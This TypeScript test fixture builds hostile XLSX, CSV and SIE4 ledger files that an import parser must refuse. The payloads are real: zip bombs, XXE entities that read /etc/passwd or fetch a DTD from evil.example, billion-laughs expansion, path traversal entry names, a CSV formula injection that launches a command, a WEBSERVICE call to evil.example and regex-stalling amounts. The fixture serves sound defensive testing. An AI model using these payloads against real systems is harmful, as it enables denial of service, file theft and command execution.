import { crc32, deflateRawSync } from 'node:zlib';
import { LedgerFormat } from '../ledger/ledger-choices.ts';

/** A file that somebody sends who means harm. */
export interface HostileBooks {
  name: string;
  format: LedgerFormat;
  bytes: () => Buffer;
}

interface Part {
  name: string;
  content: Buffer | string;
}

/** A zip file, written out by hand so that it can lie; `directory` may change what it says of its parts. */
function zip(parts: readonly Part[], directory: (entries: Buffer[]) => Buffer[] = (entries) => entries): Buffer {
  const files: Buffer[] = [];
  const entries: Buffer[] = [];
  let offset = 0;
  for (const { name, content } of parts) {
    const plain = Buffer.from(content as string);
    const packed = deflateRawSync(plain, { level: 9 });
    const title = Buffer.from(name);
    const about = Buffer.alloc(26);
    about.writeUInt16LE(20, 0);
    about.writeUInt16LE(8, 4);
    about.writeUInt32LE(crc32(plain), 10);
    about.writeUInt32LE(packed.length, 14);
    about.writeUInt32LE(plain.length, 18);
    about.writeUInt16LE(title.length, 22);
    files.push(Buffer.from('PK\x03\x04', 'latin1'), about, title, packed);
    const tail = Buffer.alloc(14);
    tail.writeUInt32LE(offset, 10);
    entries.push(Buffer.concat([Buffer.from('PK\x01\x02\x14\x00', 'latin1'), about, tail, title]));
    offset += 30 + title.length + packed.length;
  }
  const told = directory(entries);
  const size = Buffer.concat(told).length;
  const end = Buffer.alloc(22);
  end.write('PK\x05\x06', 'latin1');
  end.writeUInt16LE(told.length, 8);
  end.writeUInt16LE(told.length, 10);
  end.writeUInt32LE(size, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...files, ...told, end]);
}

const WORKBOOK = '<workbook><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>';
const RELATIONS = '<Relationships><Relationship Id="rId1" Target="worksheets/sheet1.xml"/></Relationships>';
const text = (value: string): string => `<c t="inlineStr"><is><t>${value}</t></is></c>`;
const HEADINGS = `<row>${['Datum', 'Konto', 'Belopp', 'Projekt'].map(text).join('')}</row>`;
const ROW = `<row>${['2026-03-01', '7410', '100', 'P1'].map(text).join('')}</row>`;
const sheet = (rows: string): string => `<worksheet><sheetData>${HEADINGS}${rows}</sheetData></worksheet>`;
const PARTS = (rows: string, more: readonly Part[] = []): Part[] => [
  { name: 'xl/workbook.xml', content: WORKBOOK },
  { name: 'xl/_rels/workbook.xml.rels', content: RELATIONS },
  { name: 'xl/worksheets/sheet1.xml', content: sheet(rows) },
  ...more,
];
/** A workbook that would be taken; each hostile one is this with one thing more. */
export const goodWorkbook = (): Buffer => zip(PARTS(ROW));
const shared = (xml: string): Part[] => [{ name: 'xl/sharedStrings.xml', content: xml }];
const xlsx = (name: string, bytes: () => Buffer): HostileBooks => ({ name: `XLSX: ${name}`, format: LedgerFormat.XLSX, bytes });

const MB = 1_000_000;
const laughs = Array.from({ length: 12 }, (_v, i) => `<!ENTITY l${i + 1} "${`&l${i};`.repeat(10)}">`).join('');

const workbooks: HostileBooks[] = [
  xlsx('a bomb of 1 GB in one part', () => zip(PARTS(' '.repeat(300 * MB)))),
  xlsx('a bomb of many parts that are all read', () => zip([...PARTS(ROW + ' '.repeat(50 * MB)), ...shared(`<sst>${' '.repeat(60 * MB)}</sst>`)])),
  xlsx('a bomb whose parts lie within each other', () =>
    zip(PARTS(ROW), (entries) => [...entries, ...Array.from({ length: 900 }, (_v, i) => renamed(entries[2]!, `xl/x${String(i).padStart(20, '0')}`))]),
  ),
  xlsx('a file within the file', () => zip(PARTS(ROW, [{ name: 'xl/embeddings/bomb.zip', content: 'PK' }]))),
  xlsx('an entity that reads a file here', () =>
    zip(PARTS(ROW, shared('<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><sst><si><t>&e;</t></si></sst>'))),
  ),
  xlsx('an entity that calls somewhere', () =>
    zip([{ name: 'xl/workbook.xml', content: `<!DOCTYPE x SYSTEM "http://evil.example/x.dtd">${WORKBOOK}` }, ...PARTS(ROW).slice(1)]),
  ),
  xlsx('a billion laughs', () => zip(PARTS(ROW, shared(`<!DOCTYPE x [<!ENTITY l0 "ha">${laughs}]><sst><si><t>&l12;</t></si></sst>`)))),
  xlsx('a macro', () => zip(PARTS(ROW, [{ name: 'xl/vbaProject.bin', content: 'Attribute VB_Name' }]))),
  xlsx('an old macro sheet', () => zip(PARTS(ROW, [{ name: 'xl/macrosheets/sheet1.xml', content: '<xm:macrosheet/>' }]))),
  xlsx('a control that runs', () => zip(PARTS(ROW, [{ name: 'xl/activeX/activeX1.xml', content: '<x/>' }]))),
  xlsx('a program', () => zip(PARTS(ROW, [{ name: 'xl/media/run.exe', content: 'MZ' }]))),
  xlsx('a path up', () => zip(PARTS(ROW, [{ name: '../../etc/cron.d/x', content: '* * * * *' }]))),
  xlsx('a path from the root', () => zip(PARTS(ROW, [{ name: '/etc/passwd', content: 'x' }]))),
  xlsx('a path of Windows', () => zip(PARTS(ROW, [{ name: '..\\..\\x', content: 'x' }]))),
  xlsx('a path of a drive', () => zip(PARTS(ROW, [{ name: 'C:x', content: 'x' }]))),
  xlsx('a sheet that is elsewhere', () =>
    zip([PARTS(ROW)[0]!, { name: 'xl/_rels/workbook.xml.rels', content: RELATIONS.replace('worksheets/sheet1.xml', '../../../etc/passwd') }]),
  ),
  xlsx('the same part twice', () => zip([...PARTS(ROW), PARTS(ROW)[2]!])),
  xlsx('a PDF before it', () => Buffer.concat([Buffer.from('%PDF-1.7\n'), goodWorkbook()])),
  xlsx('a picture before it', () => Buffer.concat([Buffer.from('GIF89a'), goodWorkbook()])),
  xlsx('a script after it', () => Buffer.concat([goodWorkbook(), Buffer.from('<script>alert(1)</script>')])),
  xlsx('a comment that hides another directory', () => {
    const good = goodWorkbook();
    good.writeUInt16LE(22, good.length - 2);
    return Buffer.concat([good, good.subarray(good.length - 22)]);
  }),
  xlsx('half a file', () => goodWorkbook().subarray(0, 400)),
  xlsx('a locked file', () => Buffer.concat([Buffer.from('d0cf11e0a1b11ae1', 'hex'), Buffer.alloc(2000)])),
  xlsx('nothing', () => Buffer.alloc(0)),
  xlsx('cells that never end', () => zip(PARTS('<row>' + '<c t="inlineStr">'.repeat(MB)))),
  xlsx('rows within rows', () => zip(PARTS('<row>'.repeat(2 * MB)))),
  xlsx('cells at the end of the world', () => zip(PARTS(`<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>`.repeat(100_000)))),
  xlsx('more rows than a year of books', () => zip(PARTS('<row><c/></row>'.repeat(700_000)))),
  xlsx('names of sheets without end', () => zip([{ name: 'xl/workbook.xml', content: '<sheet '.repeat(5 * MB) }, ...PARTS(ROW).slice(1)])),
  xlsx('relations without end', () =>
    zip([PARTS(ROW)[0]!, { name: 'xl/_rels/workbook.xml.rels', content: '<Relationship '.repeat(2 * MB) }, PARTS(ROW)[2]!]),
  ),
  xlsx('readings that never end', () => zip(PARTS(ROW, shared(`<sst><si>${'<rPh>'.repeat(3 * MB)}</si></sst>`)))),
  xlsx('a formula that fetches, without its result', () =>
    zip(PARTS(`<row>${text('2026-03-01')}${text('7410')}<c><f>WEBSERVICE("http://evil.example")</f></c>${text('P1')}</row>`)),
  ),
];

/** The same entry of a directory under another name of 25 characters. */
function renamed(entry: Buffer, name: string): Buffer {
  const copy = Buffer.concat([entry.subarray(0, 46), Buffer.from(name)]);
  copy.writeUInt16LE(name.length, 28);
  return copy;
}

const csv = (name: string, bytes: () => Buffer | string): HostileBooks => ({
  name: `CSV: ${name}`,
  format: LedgerFormat.CSV,
  bytes: () => Buffer.from(bytes() as string),
});
const TABLE = 'Datum;Konto;Belopp;Projekt\n';
const tables: HostileBooks[] = [
  csv('one line of 25 MB', () => TABLE + 'x'.repeat(25 * MB)),
  csv('one record of 12 million cells', () => TABLE + ';'.repeat(25 * MB)),
  csv('a quotation mark that never ends', () => `${TABLE}"${'a;b\n'.repeat(6 * MB)}`),
  csv('millions of empty lines', () => TABLE + '\n'.repeat(24 * MB)),
  csv('millions of lines without headings', () => 'a;b\n'.repeat(6 * MB)),
  csv('lines of fifty empty cells', () => TABLE + `${';'.repeat(49)}x\n`.repeat(490_000)),
  csv('a program', () => Buffer.concat([Buffer.from('MZ'), Buffer.alloc(MB, 0x90)])),
  csv('a page of HTML', () => '<html><script>alert(1)</script></html>'),
  csv('a command as an amount', () => `${TABLE}2026-03-01;7410;"=cmd|'/C calc'!A0";P1\n`),
  csv('an amount of a million digits', () => `${TABLE}2026-03-01;7410;${'9'.repeat(19_000)};P1\n`),
  csv('an amount that takes a regular expression long', () => `${TABLE}2026-03-01;7410;${'1.111'.repeat(3000)}x;P1\n`),
  csv('NUL bytes', () => Buffer.alloc(10 * MB)),
];

const sie = (name: string, bytes: () => Buffer | string): HostileBooks => ({
  name: `SIE: ${name}`,
  format: LedgerFormat.SIE4,
  bytes: () => Buffer.from(bytes() as string),
});
const HEAD = '#FLAGGA 0\n#SIETYP 4\n';
const VER = `${HEAD}#VER A 1 20260301 "x"\n{\n`;
const files: HostileBooks[] = [
  sie('one line of 25 MB', () => `${HEAD}#PROSA "${'x'.repeat(25 * MB)}"`),
  sie('braces without end', () => HEAD + '{\n'.repeat(12 * MB)),
  sie('braces on one line', () => `${VER}#TRANS 1 ${'{'.repeat(15_000)} 1\n}`),
  sie('a quotation mark that never ends', () => `${VER}#TRANS 1 {} 1 "" "${'\\"'.repeat(9000)}\n}`),
  sie('a million vouchers without rows', () => HEAD + '#VER A 1 20260301\n'.repeat(1_300_000)),
  sie('a million accounts and no voucher', () => HEAD + Array.from({ length: MB }, (_v, i) => `#KONTO ${i} "x"\n`).join('')),
  sie('more rows than a year of books', () => VER + '#TRANS 1 {} 0\n'.repeat(1_600_000)),
  sie('a voucher that never ends', () => VER + '#TRANS 1 {} 0\n'.repeat(400_000)),
  sie('an amount of a million digits', () => `${VER}#TRANS 1 {} ${'9'.repeat(19_000)}\n}`),
  sie('an amount that takes a regular expression long', () => `${VER}#TRANS 1 {} ${'1.111'.repeat(3000)}x\n}`),
  sie('an amount that is a command', () => `${VER}#TRANS 1 {} =1+1\n}`),
  sie('objects without end', () => `${VER}#TRANS 1 {${' 6 P1'.repeat(3000)} 6} 1\n}`),
  sie('a balance that lies', () => `${HEAD}#RAR 0 20260101 20261231\n#UB 0 1 5.00\n#VER A 1 20260301\n{\n#TRANS 1 {} 1\n#TRANS 2 {} -1\n}`),
  sie('a workbook', () => goodWorkbook()),
  sie('a page of HTML', () => `<!-- #FLAGGA 0 --><script>alert(1)</script>`),
  sie('UTF-16', () => Buffer.from(VER, 'utf16le')),
  sie('NUL bytes', () => Buffer.concat([Buffer.from(HEAD), Buffer.alloc(10 * MB)])),
  sie('line ends of old computers', () => `${HEAD}#VER A 1 20260301\r{\r#TRANS 1 {} 1\r}\r`),
];

/** Every file that must be refused, quickly and without much memory. */
export const hostileBooks: readonly HostileBooks[] = [...workbooks, ...tables, ...files];
